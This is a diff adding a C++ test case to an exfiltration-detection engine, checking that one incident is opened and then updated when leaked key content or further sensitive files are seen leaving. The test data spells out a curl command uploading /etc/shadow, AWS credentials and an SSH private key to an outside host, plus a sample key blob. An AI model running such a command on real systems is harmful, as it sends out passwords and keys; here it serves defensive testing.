@@ -861,6 +861,62 @@ TEST_CASE("incidents: one alert per lineage and destination, rising scores updat
     CHECK(opened() == 2);
 }
 
+TEST_CASE("incidents: at the top score, content seen leaving or another file still updates the incident")
+{
+    Timeline tl;
+    const std::string secret = "-----BEGIN OPENSSH PRIVATE KEY-----\n"
+                               "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
+                               "QyNTUxOQAAACDtUVo0CqmwYqG2yDhTmOTe8Vg0yG2rJ1wCCZtq3t+vgQAAAJgm7xZqJu8W\n"
+                               "-----END OPENSSH PRIVATE KEY-----\n";
+    tl.engine.set_file_reader(
+        [&](const ProcessRef&, const std::string& path, std::uint64_t, std::uint64_t) -> std::optional<std::string> {
+            if (path == key) return secret;
+            return std::nullopt;
+        });
+    auto curl = tl.spawn(tl.shell, {"curl", "-F", "a=@/etc/shadow", "-F", "b=@" + home + "/.aws/credentials", "-F",
+                                    "c=@" + key, "https://gist.github.com:8443/"});
+    tl.read(curl, "/etc/shadow", 1200);
+    tl.read(curl, home + "/.aws/credentials", 400);
+    tl.read(curl, key, secret.size());
+    auto f = tl.connect(curl, "gist.github.com");
+    tl.flow(curl, f, "gist.github.com", 300'000, 300, false);
+    REQUIRE(tl.alerts.size() == 1);
+    REQUIRE(tl.alerts[0].risk_score == 100);
+    CHECK_FALSE(tl.has_signal(tl.alerts[0], "content-match"));
+    tl.flow(curl, f, "gist.github.com", 400'000, 300, false);
+    CHECK(tl.alerts.size() == 1);  // more bytes, the same evidence: no update
+
+    // The key's content is seen in the plaintext: proof of the leak, an update of the same incident.
+    const std::string request =
+        fmt::format("POST / HTTP/1.1\r\nHost: gist.github.com\r\nContent-Length: {}\r\n\r\n{}", secret.size(), secret);
+    PlaintextWrite w;
+    w.time = tl.t;
+    w.process = curl;
+    w.flow.socket_cookie = f.cookie;
+    w.source = "openssl";
+    w.object = 1;
+    w.write_size = request.size();
+    for (char c : request) w.data.push_back(static_cast<std::byte>(c));
+    tl.feed(Event{tl.engine.scan(w)});
+    tl.step();
+    REQUIRE(tl.alerts.size() == 2);
+    CHECK(tl.alerts[1].incident_update);
+    CHECK(tl.alerts[1].incident_id == tl.alerts[0].incident_id);
+    CHECK(tl.has_signal(tl.alerts[1], "content-match"));
+    tl.feed(Event{tl.engine.scan(w)});  // the same proof again: nothing new
+    tl.step();
+    CHECK(tl.alerts.size() == 2);
+
+    // The lineage sends another sensitive file to the same place: an update naming it.
+    tl.read(curl, home + "/.ssh/id_ecdsa", 300);
+    tl.flow(curl, f, "gist.github.com", 401'000, 300, true);
+    REQUIRE(tl.alerts.size() == 3);
+    CHECK(tl.alerts[2].incident_update);
+    CHECK(std::any_of(tl.alerts[2].files.begin(), tl.alerts[2].files.end(),
+                      [&](const AlertFile& file) { return file.path == home + "/.ssh/id_ecdsa"; }));
+    CHECK(tl.engine.stats().incidents == 1);
+}
+
 TEST_CASE("incidents: ids are the same on a replay of the same events")
 {
     auto run = [] {
